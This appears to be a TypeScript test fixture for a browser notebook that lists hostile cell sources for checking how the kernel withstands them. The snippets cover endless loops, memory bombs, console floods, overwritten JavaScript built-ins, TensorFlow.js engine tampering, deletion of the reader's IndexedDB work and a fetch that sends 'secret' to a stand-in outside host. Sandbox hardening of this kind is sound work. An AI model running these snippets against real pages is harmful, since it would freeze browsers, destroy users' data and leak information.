/** What a cell may do to the page and its kernel, by accident or on purpose; each by what it does. */
export const hostileCells: readonly (readonly [what: string, source: string])[] = [
  // Loops.
  ['an endless loop', 'while (true);'],
  ['a loop in code made of text', `eval('for (;;);');`],
  ['a loop that waits', 'while (true) await null;'],
  ['a loop in a getter of what is shown', '({ get x() { return eval("for (;;);"); } });'],
  ['a recursion without an end', 'const again = (): number => again() + 1;\nagain();'],
  ['a regular expression that backtracks', `/^(a+)+$/.test('a'.repeat(40) + 'b');`],
  ['a promise that never settles', 'await new Promise(() => undefined);'],
  ['an endless proxy', 'new Proxy({}, { ownKeys: () => eval("for (;;);") });'],
  ['a loop in a timer, after the cell has ended', 'setTimeout(() => { eval("for (;;);"); });'],
  [
    'a flood of microtasks, after the cell has ended',
    'const flood = (): void => queueMicrotask(flood);\nsetTimeout(flood);',
  ],
  [
    'a promise that goes on for ever',
    'setTimeout(async () => { eval("(async () => { for (;;) await null; })()"); });',
  ],
  // Floods.
  ['a hundred thousand lines', 'for (let i = 0; i < 100_000; i++) console.log(i);'],
  ['a line of ten million characters', `console.log('x'.repeat(1e7));`],
  ['a table of a hundred thousand rows', 'console.table(Array.from({ length: 100_000 }, (_, i) => [i, i]));'],
  ['a warning every millisecond, after the cell has ended', `setInterval(() => console.warn('again'), 1);`],
  ['a flood of rejections', 'for (let i = 0; i < 20_000; i++) void Promise.reject(new Error(String(i)));'],
  // Bombs.
  ['an array larger than any memory', 'new Float64Array(2 ** 40);'],
  ['a string that doubles', `let text = 'x';\nwhile (true) text += text;`],
  [
    'tensors until memory is gone',
    'const all: tf.Tensor[] = [];\nwhile (true) all.push(tf.ones([4096, 4096]));',
  ],
  // JavaScript itself.
  ['another Math.random', 'Math.random = () => 0.5;'],
  ['another Array.prototype.map', 'Array.prototype.map = () => [];'],
  ['another String.prototype.replace', `String.prototype.replace = () => '';`],
  ['another Object.keys', 'Object.keys = () => [];'],
  ['another Object.entries', 'Object.entries = () => [];'],
  ['another Object.defineProperty', 'Object.defineProperty = (object) => object;'],
  ['another Function.prototype.bind', 'Function.prototype.bind = () => () => undefined;'],
  ['another JSON.stringify', `JSON.stringify = () => '';`],
  ['another Promise.prototype.then', 'Promise.prototype.then = () => new Promise(() => undefined);'],
  ['a then for every object', 'Reflect.set(Object.prototype, "then", () => undefined);'],
  ['another Set.prototype.has', 'Set.prototype.has = () => true;'],
  ['another WeakMap.prototype.get', 'WeakMap.prototype.get = () => undefined;'],
  ['another clock', 'performance.now = () => 0;'],
  [
    'a setter for every object',
    'Object.defineProperty(Object.prototype, "kind", { set() {}, get: () => "x" });',
  ],
  [
    'names on the global object',
    'Reflect.set(globalThis, "counter", 1);\nReflect.set(globalThis, "console", null);',
  ],
  // TensorFlow.js.
  ['another backend', `await tf.setBackend('cpu');`],
  ['an engine that is reset', 'tf.engine().reset();'],
  ['a backend that is removed', 'tf.removeBackend(tf.getBackend());'],
  ['debug mode', 'tf.enableDebugMode();'],
  ['every tensor disposed of', 'tf.disposeVariables();\ntf.engine().state.numBytes = 1e12;'],
  // The page.
  [
    'messages as the kernel sends them',
    `for (const type of ['run-ended', 'cell-ended', 'lost']) postMessage({ type, runId: 1 });`,
  ],
  ['the end of its own worker', 'self.close();'],
  [
    'four workers without an end',
    `for (let i = 0; i < 4; i++) new Worker(URL.createObjectURL(new Blob(['for (;;);'])));`,
  ],
  ['the reader’s work deleted', `indexedDB.deleteDatabase('keyval-store');`],
  ['a word to another host', `await fetch('http://other.example/?secret');`],
  ['an error with a strange stack', `throw Object.assign(new Error('x'), { stack: 5 });`],
];
